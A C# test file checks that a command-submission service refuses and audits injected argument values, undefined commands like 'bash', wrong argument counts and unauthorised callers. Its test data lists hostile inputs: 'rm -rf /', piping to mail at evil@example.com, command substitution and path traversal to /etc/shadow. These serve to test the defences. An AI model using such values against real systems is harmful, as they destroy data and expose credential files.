using Ava.Domain.Commands;
using Ava.Domain.Security;
using Ava.Infrastructure.Common;
using Ava.Infrastructure.Security;
using Ava.Infrastructure.Workflows;
using Ava.Tests.Web;
using Microsoft.EntityFrameworkCore;

namespace Ava.Tests.Infrastructure.Commands;

/// <summary>What is refused before anything runs: values their pattern does not allow, commands outside the allow-list, callers without execute_commands.</summary>
[Collection(CommandsAppCollection.Name)]
public sealed class CommandSubmissionTests(CommandsApp app)
{
    public static TheoryData<string, string> HostileValues => new()
    {
        { "docs; rm -rf /", "does not match" },
        { "docs && id", "does not match" },
        { "docs | mail evil@example.com", "does not match" },
        { "$(id)", "does not match" },
        { "`id`", "does not match" },
        { "docs\nid", "control character" },
        { "../../etc", "'..'" },
        { "logs/../../etc/shadow", "'..'" },
        { "--output=/etc/passwd", "does not match" },
    };

    [Theory]
    [MemberData(nameof(HostileValues))]
    public async Task Submit_RefusesAndAuditsTheReason_BeforeAnythingRuns_WhenAValueBreaksItsPattern(string value, string reason)
    {
        var before = await CountsAsync();

        var refusal = await Should.ThrowAsync<InvalidValuesException>(() => app.SubmitAsync(AvaAppFactory.AdminEmail, "list-folder", value));

        refusal.Errors["arguments[0]"].ShouldHaveSingleItem().ShouldContain(reason);
        var after = await CountsAsync();
        after.Executions.ShouldBe(before.Executions, "nothing is stored");
        after.Jobs.ShouldBe(before.Jobs, "nothing is queued");
        await using var db = app.OpenDatabase();
        var audited = await db.AuditEvents.OrderByDescending(e => e.Sequence).FirstAsync(e => e.Action == CommandAuditActions.Refused);
        audited.Success.ShouldBeFalse();
        audited.UserName.ShouldBe(AvaAppFactory.AdminEmail);
        audited.Resource.ShouldBe("command/list-folder");
        audited.Error!.ShouldContain(reason);
    }

    [Fact]
    public async Task Submit_RefusesAndAudits_WhenTheCommandIsNotDefined()
    {
        var before = await CountsAsync();

        var refusal = await Should.ThrowAsync<InvalidValuesException>(() => app.SubmitAsync(AvaAppFactory.AdminEmail, "bash", "-c", "id"));

        refusal.Errors["command"].ShouldHaveSingleItem().ShouldContain("no command named 'bash'");
        (await CountsAsync()).ShouldBe(before);
        await using var db = app.OpenDatabase();
        (await db.AuditEvents.AnyAsync(e => e.Action == CommandAuditActions.Refused && e.Resource == "command/bash")).ShouldBeTrue();
    }

    [Fact]
    public async Task Submit_RefusesTheWrongNumberOfValues_NamingWhatTheCommandTakes()
    {
        var refusal = await Should.ThrowAsync<InvalidValuesException>(() => app.SubmitAsync(AvaAppFactory.AdminEmail, "echo", "one", "two"));

        refusal.Errors["arguments"].ShouldHaveSingleItem().ShouldBe("echo takes 1 argument (word); 2 were given.");
    }

    [Fact]
    public async Task Submit_IsRefusedAsASecurityViolation_WhenADeveloperAsks()
    {
        var before = await CountsAsync();

        await Should.ThrowAsync<PermissionDeniedException>(() => app.SubmitAsync(AvaAppFactory.DeveloperEmail, "echo", "hello"));

        (await CountsAsync()).ShouldBe(before);
        await using var db = app.OpenDatabase();
        var violation = await db.AuditEvents.OrderByDescending(e => e.Sequence).FirstAsync(e => e.Action == SecurityAuditActions.Violation);
        violation.UserName.ShouldBe(AvaAppFactory.DeveloperEmail);
        violation.Resource.ShouldContain("CommandQueueService.SubmitAsync");
    }

    [Fact]
    public async Task Submit_QueuesARunActingAsTheRequester_AndTheWorkflowRunsItWithTheValueAsOneArgument()
    {
        var id = await app.SubmitAsync(AvaAppFactory.AdminEmail, "echo", "hello");

        var run = await app.WaitForEndAsync(id);
        run.Status.ShouldBe(CommandExecutionStatus.Succeeded, run.Message);
        run.ExitCode.ShouldBe(0);
        run.StdOut.ShouldBe("hello\n");
        run.RequestedBy.ShouldBe(AvaAppFactory.AdminEmail);
        await using var db = app.OpenDatabase();
        var workflowRun = await db.WorkflowRuns.SingleAsync(r => r.JobId == run.JobId);
        workflowRun.WorkflowName.ShouldBe(RunCommandJob.Name);
        workflowRun.Trigger.ShouldBe($"user:{AvaAppFactory.AdminEmail}");
        var events = await db.AuditEvents.Where(e => e.Resource == $"execution/{id}").OrderBy(e => e.Sequence).ToListAsync();
        events.Select(e => e.Action).ShouldBe([CommandAuditActions.Submitted, CommandAuditActions.Started, CommandAuditActions.Ended]);
        events.ShouldAllBe(e => e.UserName == AvaAppFactory.AdminEmail);
    }

    private async Task<(int Executions, int Jobs)> CountsAsync()
    {
        await using var db = app.OpenDatabase();
        return (await db.CommandExecutions.CountAsync(), await db.WorkflowRuns.CountAsync(r => r.WorkflowName == RunCommandJob.Name));
    }
}
